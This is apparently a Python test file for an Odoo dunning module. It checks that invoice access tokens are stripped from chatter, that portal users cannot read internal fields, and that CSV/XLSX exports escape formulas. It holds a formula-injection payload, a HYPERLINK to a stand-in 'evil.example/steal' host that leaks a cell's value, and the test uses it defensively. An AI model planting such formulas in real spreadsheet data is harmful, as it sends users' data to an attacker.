"""What the product writes out or lets others read holds too: invoice tokens, the
fields portal users can reach, the exports, the templates (issue "Close the access
holes")."""

import base64
import csv
import io
from datetime import timedelta

import openpyxl

from odoo import Command
from odoo.exceptions import AccessError
from odoo.tests import freeze_time, new_test_user, tagged

from .common import TODAY, DunningCommon, company_user

DUE = TODAY - timedelta(days=10)
FORMULA = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click")'


@tagged("post_install", "-at_install")
@freeze_time(TODAY)
class TestDunningAccessData(DunningCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.contact_editor = company_user(
            cls.env,
            "data_contact_editor",
            "base.group_user,base.group_partner_manager",
            cls.company,
        )
        cls.dunning_user = company_user(
            cls.env,
            "data_dunning_only",
            "account_dunning.group_dunning_user",
            cls.company,
        )
        cls.portal_contact = cls.env["res.partner"].create(
            {
                "name": "Portal Buyer",
                "email": "buyer@example.com",
                "parent_id": cls.customer.id,
            }
        )
        cls.portal_user = new_test_user(
            cls.env,
            login="data_portal",
            groups="base.group_portal",
            partner_id=cls.portal_contact.id,
            company_id=cls.company.id,
            company_ids=[Command.set(cls.company.ids)],
        )

    # ------------------------------------------------------ access tokens

    def test_tokens_only_in_the_email_sent(self):
        invoice = self._invoice(self.customer, 100.0, DUE)
        run = self._run(TODAY)
        action = self._sent(run, self.customer)
        token = invoice.sudo().access_token
        self.assertTrue(token)
        self.assertIn(f"access_token={token}", str(action.mail_id.body_html))
        # The copy in the customer's chatter, which every employee reads.
        messages = self.customer.with_user(self.contact_editor).message_ids
        self.assertIn(action.message_id, messages.sudo())
        body = str(action.message_id.with_user(self.contact_editor).body)
        self.assertIn("Pay online", body)
        self.assertIn(invoice.sudo().access_url, body)
        self.assertNotIn("access_token", body)
        self.assertNotIn(token, body)
        # The table with the links is for the invoicing users, and the engine.
        with self.assertRaises(AccessError):
            action.with_user(self.dunning_user).read(["report_table_html"])
        table = action.with_user(self.invoice_user).read(["report_table_html"])
        self.assertIn(token, str(table[0]["report_table_html"]))
        self.assertFalse(hasattr(action, "get_report_lines"), "private now")

    def test_token_stripping_keeps_other_parameters(self):
        strip = self.env["account.dunning.action"]._without_access_tokens
        self.assertEqual(
            str(strip('<a href="/my/invoices/7?access_token=ab-12">Pay</a>')),
            '<a href="/my/invoices/7">Pay</a>',
        )
        self.assertEqual(
            str(strip('<a href="/x?a=1&amp;access_token=z&amp;b=2">x</a>')),
            '<a href="/x?a=1&amp;b=2">x</a>',
        )
        self.assertEqual(str(strip("/x?access_token=z&b=2")), "/x?b=2")
        self.assertFalse(strip(False))

    # ----------------------------------------------------- portal users

    def test_portal_user_reads_no_internal_field(self):
        invoice = self._invoice(self.customer, 100.0, DUE)
        invoice.with_user(self.dunning_manager).write(
            {"dunning_excluded": True, "dunning_exclusion_reason": "Key account"}
        )
        self.customer.with_user(self.dunning_manager).action_dunning_block("Never pays")
        order = self.env["sale.order"].create(
            {"partner_id": self.portal_contact.id, "company_id": self.company.id}
        )
        order.message_subscribe(self.portal_contact.ids)
        portal = self.portal_user
        # What the portal shows them stays readable.
        readable = invoice.with_user(portal).read(["name", "amount_residual"])
        self.assertEqual(readable[0]["name"], invoice.name)
        self.assertEqual(order.with_user(portal).read(["name"])[0]["name"], order.name)
        self.assertEqual(
            self.portal_contact.with_user(portal).read(["name"])[0]["name"],
            self.portal_contact.name,
        )
        internal = {
            invoice: (
                "dunning_exclusion_reason",
                "dunning_excluded",
                "dunning_level_id",
                "dunning_last_date",
                "dunning_partner_block_reason",
                "dunning_interest_amount",
            ),
            self.portal_contact: (
                "dunning_block_reason",
                "dunning_blocked",
                "dunning_policy_id",
                "dunning_next_action_date",
            ),
            order: ("dunning_block_message", "dunning_partner_blocked"),
        }
        for record, names in internal.items():
            for name in names:
                with self.subTest(model=record._name, field=name):
                    with self.assertRaises(AccessError):
                        record.with_user(portal).read([name])
        self.assertNotIn(
            "dunning_exclusion_reason",
            invoice.with_user(portal).fields_get(attributes=["string"]),
        )

    # ------------------------------------------------------------ exports

    def test_exports_never_write_a_formula(self):
        villain = self._customer("Villain")
        villain.name = FORMULA
        self._invoice(villain, 100.0, DUE)
        wizard = (
            self.env["account.dunning.aging.wizard"]
            .with_user(self.invoice_user)
            .create({"date": TODAY, "company_ids": [Command.set(self.company.ids)]})
        )
        wizard.action_export_csv()
        content = base64.b64decode(wizard.export_file).decode("utf-8-sig")
        rows = {row[0]: row for row in csv.reader(io.StringIO(content))}
        self.assertIn("'" + FORMULA, rows)
        self.assertEqual(rows["'" + FORMULA][-1], "100.00")
        self.assertNotIn(FORMULA, rows)
        wizard.action_export_xlsx()
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.export_file)))
        cells = [cell for row in book.active.iter_rows() for cell in row]
        villain_cell = next(cell for cell in cells if cell.value == FORMULA)
        self.assertEqual(villain_cell.data_type, "s", "a string, not a formula")
        self.assertFalse([cell for cell in cells if cell.data_type == "f"])

    def test_spreadsheet_text(self):
        from ..models.aging_rules import spreadsheet_text

        for value, expected in (
            ("=1+1", "'=1+1"),
            ("+33 6", "'+33 6"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("  =HYPERLINK(1)", "'  =HYPERLINK(1)"),
            ("Dubois", "Dubois"),
            ("", ""),
            (None, ""),
            (False, ""),
        ):
            with self.subTest(value=value):
                self.assertEqual(spreadsheet_text(value), expected)

    # ---------------------------------------------------------- templates

    def test_mail_templates_survive_upgrades(self):
        data = self.env["ir.model.data"].search(
            [
                ("module", "=", "account_dunning"),
                ("model", "in", ("mail.template", "sms.template")),
            ]
        )
        # 5 reminders, 1 SMS, 2 payment plans, 1 claim declaration (insolvency),
        # the customer page's fresh link, a portal plan approved and refused
        self.assertEqual(len(data), 12)
        self.assertTrue(all(data.mapped("noupdate")))
